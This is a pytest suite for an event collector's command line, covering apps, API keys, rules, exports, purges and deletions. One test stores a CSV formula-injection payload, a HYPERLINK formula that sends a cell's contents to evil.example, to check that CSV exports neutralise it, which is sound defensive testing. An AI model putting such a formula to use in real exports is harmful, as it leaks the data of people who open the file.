"""The stable command line, run in-process with click's runner on a real SQLite file."""

from __future__ import annotations

import csv
import io
import json
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from collector.cli import main
from collector.ids import hash_key
from collector.models import Event
from collector.store import is_url, open_store
from collector.timeutil import now_ms, parse_timestamp
from tests.dbrows import rows, scalar
from tests.factories import ev


@pytest.fixture
def run(db: str):
    runner = CliRunner()

    def invoke(*args: str, ok: bool = True) -> str:
        result = runner.invoke(main, [*args, "--db", db], catch_exceptions=False)
        if ok:
            assert result.exit_code == 0, result.output
        else:
            assert result.exit_code != 0, result.output
        # Notices (a database being created) go to stderr; what a script reads, to stdout.
        return result.stdout if ok else result.output

    return invoke


def created(run) -> dict:
    return json.loads(
        run(
            "apps",
            "create",
            "Shop",
            "--origin",
            "https://shop.example.com",
            "--origin",
            "https://*.example.com:8443",
            "--json",
        )
    )


def test_apps_create_json_and_key_stored_hashed(run, db: str) -> None:
    app = created(run)
    assert app["app_id"].startswith("app_") and app["api_key"].startswith("sk_")
    assert app["origins"] == ["https://shop.example.com", "https://*.example.com:8443"]
    assert {r["event"] for r in app["rules"]} == {"confirmation", "email_opened"}
    assert rows(db, "SELECT key_hash, prefix FROM api_keys") == [
        (hash_key(app["api_key"]), app["api_key"][:7])
    ]
    stored = rows(db, "SELECT * FROM api_keys")
    assert not any(app["api_key"] in str(value) for row in stored for value in row)
    if not is_url(db):  # nowhere in the file either
        assert app["api_key"] not in Path(db).read_bytes().decode(errors="ignore")


def test_apps_create_rejects_bad_origin(run) -> None:
    out = run("apps", "create", "X", "--origin", "shop.example.com", ok=False)
    assert "origin" in out


def test_apps_list_show_update(run) -> None:
    app = created(run)
    assert app["app_id"] in run("apps", "list")
    run(
        "apps",
        "update",
        app["app_id"],
        "--name",
        "Shop 2",
        "--add-origin",
        "http://localhost:3000",
        "--remove-origin",
        "https://shop.example.com",
        "--bot-policy",
        "drop",
        "--ip-mode",
        "truncate",
        "--require-known-user",
        "--rate-limit-ip",
        "5",
    )
    shown = json.loads(run("apps", "show", app["app_id"], "--json"))
    assert shown["name"] == "Shop 2"
    assert shown["origins"] == ["https://*.example.com:8443", "http://localhost:3000"]
    assert shown["settings"]["bot_policy"] == "drop"
    assert shown["settings"]["ip_mode"] == "truncate"
    assert shown["settings"]["require_known_user"] is True
    assert shown["settings"]["rate_limit_ip"] == 5
    assert len(shown["keys"]) == 1 and "key_hash" not in shown["keys"][0]
    run("apps", "show", "app_missing", ok=False)


def test_keys_create_list_revoke(run, db: str) -> None:
    app = created(run)
    new = json.loads(run("keys", "create", app["app_id"], "--json"))
    store = open_store(db)
    assert store.app_for_key(hash_key(new["api_key"])) is not None
    run("keys", "revoke", new["key_id"])
    assert store.app_for_key(hash_key(new["api_key"])) is None
    assert store.app_for_key(hash_key(app["api_key"])) is not None
    assert "revoked" in run("keys", "list", app["app_id"])
    run("keys", "revoke", new["key_id"], ok=False)
    store.close()


def test_rules_add_list_remove(run) -> None:
    app = created(run)
    rule = json.loads(
        run(
            "rules",
            "add",
            app["app_id"],
            "--event",
            "invoice_paid",
            "--dedupe-key",
            "invoice",
            "--json",
        )
    )
    assert rule["kind"] == "dedupe"
    throttle = json.loads(
        run("rules", "add", app["app_id"], "--event", "ping", "--throttle", "20m", "--json")
    )
    assert throttle["throttle_ms"] == 20 * 60 * 1000
    listing = run("rules", "list", app["app_id"])
    assert "invoice_paid" in listing and "ping" in listing
    run("rules", "remove", app["app_id"], str(rule["id"]))
    assert "invoice_paid" not in run("rules", "list", app["app_id"])
    run("rules", "add", app["app_id"], "--event", "x", ok=False)
    run("rules", "add", app["app_id"], "--event", "x", "--throttle", "soon", ok=False)


def _seed(db: str, app_id: str) -> None:
    store = open_store(db)
    base = parse_timestamp("2026-01-01T00:00:00Z")
    events = []
    for i, (name, user, anon, days) in enumerate(
        [
            ("signup_completed", "u1", None, 0),
            ("page_viewed", None, "anon-1", 1),
            ("export_completed", "u2", None, 200),
            ("page_viewed", "u1", "anon-1", 2),
        ]
    ):
        ts = base + days * 86_400_000
        events.append(
            Event(
                kind="track",
                name=name,
                app_id=app_id,
                user_id=user,
                anonymous_id=anon,
                message_id=f"m{i}",
                ts=ts,
                received_at=ts,
                timestamp=None,
                sent_at=None,
                properties={"i": i, "note": "a,b"},
                context={"source": "server"},
                id=f"evt_{i:032x}",
            )
        )
    store.write(events)
    store.close()


def test_export_jsonl_shape_and_window(run, db: str) -> None:
    app = created(run)
    _seed(db, app["app_id"])
    lines = run("export", app["app_id"], "--format", "jsonl").splitlines()
    rows = [json.loads(line) for line in lines]
    assert [r["event"] for r in rows] == [
        "signup_completed",
        "page_viewed",
        "page_viewed",
        "export_completed",
    ]
    assert set(rows[0]) == {
        "id",
        "message_id",
        "event",
        "user_id",
        "anonymous_id",
        "timestamp",
        "received_at",
        "properties",
        "context",
    }
    assert rows[0]["timestamp"] == "2026-01-01T00:00:00.000Z"
    window = run(
        "export",
        app["app_id"],
        "--since",
        "2026-01-02T00:00:00Z",
        "--until",
        "2026-01-03T00:00:00Z",
    )
    assert [json.loads(x)["anonymous_id"] for x in window.splitlines()] == ["anon-1"]
    run("export", app["app_id"], "--since", "whenever", ok=False)


def test_export_csv(run, db: str) -> None:
    app = created(run)
    _seed(db, app["app_id"])
    rows = list(csv.DictReader(io.StringIO(run("export", app["app_id"], "--format", "csv"))))
    assert len(rows) == 4
    assert json.loads(rows[0]["properties"]) == {"i": 0, "note": "a,b"}


def test_export_csv_cells_are_never_spreadsheet_formulas(run, db: str) -> None:
    # Event names and ids come from anyone who can send an event: a spreadsheet opening
    # the export must show them, not run them.
    app = created(run)
    store = open_store(db)
    ts = parse_timestamp("2026-01-01T00:00:00Z")
    store.write(
        [
            Event(
                kind="track",
                name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
                app_id=app["app_id"],
                user_id=None,
                anonymous_id="@SUM(1+1)",
                message_id="-2+3",
                ts=ts,
                received_at=ts,
                timestamp=None,
                sent_at=None,
                properties={"k": "=1+1"},
                context={},
                id=f"evt_{1:032x}",
            )
        ]
    )
    store.close()
    rows = list(csv.DictReader(io.StringIO(run("export", app["app_id"], "--format", "csv"))))
    assert rows[0]["event"] == """'=HYPERLINK("http://evil.example/?x="&A1,"click")"""
    assert rows[0]["anonymous_id"] == "'@SUM(1+1)"
    assert rows[0]["message_id"] == "'-2+3"
    assert json.loads(rows[0]["properties"]) == {"k": "=1+1"}  # JSON starts with "{"
    jsonl = json.loads(run("export", app["app_id"]).splitlines()[0])
    assert jsonl["event"].startswith("=HYPERLINK")  # JSON lines keep the value as sent


def test_purge_older_than(run, db: str) -> None:
    app = created(run)
    _seed(db, app["app_id"])
    store = open_store(db)
    recent = now_ms() - 86_400_000
    store.write(
        [
            Event(
                kind="track",
                name="recent",
                app_id=app["app_id"],
                user_id="u3",
                anonymous_id=None,
                message_id="r",
                ts=recent,
                received_at=recent,
                timestamp=None,
                sent_at=None,
                properties={},
                context={},
                id="evt_r",
            )
        ]
    )
    store.close()
    assert "purged 4 events" in run("purge", app["app_id"], "--older-than", "90d")
    left = [json.loads(x)["event"] for x in run("export", app["app_id"]).splitlines()]
    assert left == ["recent"]
    run("purge", app["app_id"], "--older-than", "ninety", ok=False)


def test_users_delete_removes_user_events_and_anonymous_ids(run, db: str) -> None:
    app = created(run)
    _seed(db, app["app_id"])
    out = run("users", "delete", app["app_id"], "u1")
    assert "3 events" in out  # signup, the anonymous page view, the linked page view
    remaining = [json.loads(x) for x in run("export", app["app_id"]).splitlines()]
    assert [(r["event"], r["user_id"]) for r in remaining] == [("export_completed", "u2")]
    assert scalar(db, "SELECT count(*) FROM identities") == 0
    assert scalar(db, "SELECT count(*) FROM users WHERE user_id = 'u1'") == 0


def test_a_mistyped_db_is_never_created_silently(tmp_path: Path) -> None:
    runner = CliRunner()
    missing = tmp_path / "typo.db"
    result = runner.invoke(main, ["apps", "list", "--db", str(missing)])
    assert result.exit_code != 0
    assert f"no database at {missing}" in result.output
    assert not missing.exists()

    nowhere = tmp_path / "no-such-folder" / "t.db"
    result = runner.invoke(main, ["apps", "create", "Shop", "--db", str(nowhere)])
    assert result.exit_code != 0
    assert "is not a folder" in result.output
    assert not nowhere.parent.exists()

    # The commands that start a database say which file they create.
    result = runner.invoke(main, ["apps", "create", "Shop", "--json", "--db", str(missing)])
    assert result.exit_code == 0, result.output
    assert f"creating a new SQLite database at {missing}" in result.stderr
    assert json.loads(result.stdout)["app_id"].startswith("app_")
    result = runner.invoke(main, ["apps", "list", "--db", str(missing)])
    assert result.exit_code == 0 and "creating" not in result.output


def test_export_takes_a_duration_as_purge_does(run, db: str) -> None:
    app = created(run)
    store = open_store(db)
    now = now_ms()
    for name, ago in (("old", 5 * 86_400_000), ("new", 3_600_000)):
        store.write(
            [
                Event(
                    kind="track",
                    name=name,
                    app_id=app["app_id"],
                    user_id="u",
                    anonymous_id=None,
                    message_id=name,
                    ts=now - ago,
                    received_at=now - ago,
                    timestamp=None,
                    sent_at=None,
                    properties={},
                    context={},
                    id=f"evt_{name}",
                )
            ]
        )
    store.close()
    out = run("export", app["app_id"], "--since", "2d")
    assert [json.loads(x)["event"] for x in out.splitlines()] == ["new"]
    out = run("export", app["app_id"], "--until", "2d")
    assert [json.loads(x)["event"] for x in out.splitlines()] == ["old"]
    assert "duration" in run("export", app["app_id"], "--since", "soon", ok=False)


def test_users_delete_of_an_unknown_user_fails(run, db: str) -> None:
    app = created(run)
    out = run("users", "delete", app["app_id"], "nobody", ok=False)
    assert "no user 'nobody'" in out


def test_apps_delete_asks_first_then_deletes_the_app_and_its_data(
    run, db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("collector.cli.COMMIT_GRACE_S", 0.0)  # no server here to wait for
    app = created(run)
    other = created(run)
    _seed(db, app["app_id"])
    runner = CliRunner()
    refused = runner.invoke(main, ["apps", "delete", app["app_id"], "--db", db], input="n\n")
    assert refused.exit_code == 1 and "Aborted" in refused.output
    assert "all its data" in refused.output
    run("apps", "show", app["app_id"])  # still there
    agreed = runner.invoke(main, ["apps", "delete", app["app_id"], "--db", db], input="y\n")
    assert agreed.exit_code == 0, agreed.output
    assert f"deleted app {app['app_id']} (Shop)" in agreed.stdout
    assert "  4 events\n" in agreed.stdout and "  1 apps\n" in agreed.stdout
    assert "  1 API keys\n" in agreed.stdout
    assert "no app" in run("apps", "show", app["app_id"], ok=False)
    assert [a["app_id"] for a in json.loads(run("apps", "list", "--json"))] == [other["app_id"]]
    assert scalar(db, "SELECT count(*) FROM events WHERE app_id = ?", [app["app_id"]]) == 0
    # --yes asks nothing; --json is what a script reads.
    again = created(run)
    out = json.loads(run("apps", "delete", again["app_id"], "--yes", "--json"))
    assert out["app_id"] == again["app_id"] and out["deleted"]["apps"] == 1


def test_apps_delete_of_an_unknown_app_fails(run) -> None:
    created(run)
    out = run("apps", "delete", "app_nope", "--yes", ok=False)
    assert "no app 'app_nope'" in out


def test_serve_on_a_port_in_use_fails_before_printing_a_demo_key(tmp_path: Path) -> None:
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        db = tmp_path / "demo.db"
        result = CliRunner().invoke(main, ["serve", "--demo", "--port", str(port), "--db", str(db)])
    assert result.exit_code == 1
    assert "cannot listen" in result.output
    assert "API key" not in result.output
    assert not db.exists()


def test_a_second_demo_run_names_the_key_it_revoked(tmp_path: Path) -> None:
    from collector.settings import Settings
    from collector.web.demo import ensure_demo_app

    store = open_store(str(tmp_path / "demo.db"))
    store.migrate()
    settings = Settings(db=str(tmp_path / "demo.db"), demo=True)
    app, first, revoked = ensure_demo_app(store, settings)
    assert revoked == []
    [key] = store.list_keys(app.app_id)
    again, second, revoked = ensure_demo_app(store, settings)
    assert again.app_id == app.app_id and second != first
    assert revoked == [key["key_id"]]
    store.close()


def test_a_database_that_cannot_be_opened_is_one_line(tmp_path: Path) -> None:
    not_a_db = tmp_path / "notes.db"
    not_a_db.write_bytes(b"these are not the pages of a SQLite database" * 100)
    for args in (["apps", "list"], ["serve", "--port", "0"]):
        proc = subprocess.run(
            [sys.executable, "-m", "collector", *args, "--db", str(not_a_db)],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert proc.returncode == 1, proc.stderr
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("Error: cannot open the database"), lines
        assert "Traceback" not in proc.stderr


def test_a_new_database_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    db = tmp_path / "private.db"
    CliRunner().invoke(main, ["apps", "create", "Shop", "--db", str(db)], catch_exceptions=False)
    store = open_store(str(db))  # an open store keeps its WAL and shared memory files
    try:
        app_id = store.list_apps()[0].app_id
        store.create_key(app_id)
        store.write([ev(app_id, "a", 1_790_000_000_000, user="u1")])  # the inbox file's
        store.index_all()  # the main file's turn
        files = [db, *db.parent.glob("private.db*")]
        assert {p.name for p in files} >= {
            "private.db",
            "private.db-wal",
            "private.db-shm",
            "private.db-inbox",  # the group commit's own file (store/sqlite/inbox.py)
            "private.db-inbox-wal",
            "private.db-inbox-shm",
            "private.db.writer-lock",
            "private.db-inbox.writer-lock",
        }
        for path in files:
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, (path, oct(path.stat().st_mode))
    finally:
        store.close()


def test_the_database_may_be_named_before_the_command(run, db: str, monkeypatch) -> None:
    app = created(run)
    runner = CliRunner()
    listed = runner.invoke(main, ["--db", db, "apps", "list"], catch_exceptions=False)
    assert listed.exit_code == 0 and app["app_id"] in listed.stdout
    # Named before the command, it wins over the environment, as it does after it.
    monkeypatch.setenv("COLLECTOR_DB", str(Path(db).with_name("elsewhere.db")))
    listed = runner.invoke(main, ["--db", db, "apps", "list"], catch_exceptions=False)
    assert listed.exit_code == 0 and app["app_id"] in listed.stdout
    assert not Path(db).with_name("elsewhere.db").exists()


def test_errors_name_the_option_and_the_path_given(run, db: str, tmp_path: Path) -> None:
    app = created(run)
    out = run("apps", "update", app["app_id"], "--add-origin", "not a url", ok=False)
    assert "--add-origin" in out
    out = run("apps", "update", app["app_id"], "--remove-origin", "not a url", ok=False)
    assert "--remove-origin" in out
    if not is_url(db):  # a backup copies SQLite files
        target = tmp_path / "missing-folder" / "copy.db"
        out = run("backup", str(target), ok=False)
        assert str(target) in out and f"{target.parent} is not a folder" in out


def test_the_settings_file_names_the_database_for_every_command(
    run, db: str, tmp_path: Path, monkeypatch
) -> None:
    app = created(run)
    config = tmp_path / "telltale.toml"
    config.write_text(f"db = {json.dumps(db)}\n")
    monkeypatch.delenv("COLLECTOR_DB", raising=False)
    monkeypatch.setenv("COLLECTOR_CONFIG", str(config))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)  # where the default telltale.db would be
    listed = CliRunner().invoke(main, ["apps", "list"], catch_exceptions=False)
    assert listed.exit_code == 0 and app["app_id"] in listed.stdout
    assert not (elsewhere / "telltale.db").exists()


def test_a_zero_throttle_is_refused_naming_the_option(run) -> None:
    app = created(run)
    for window in ("0", "0s", "0ms"):
        refused = run("rules", "add", app["app_id"], "--event", "x", "--throttle", window, ok=False)
        assert "--throttle" in refused and "longer than 0" in refused
    kept = json.loads(
        run("rules", "add", app["app_id"], "--event", "x", "--throttle", "500ms", "--json")
    )
    assert kept["throttle_ms"] == 500
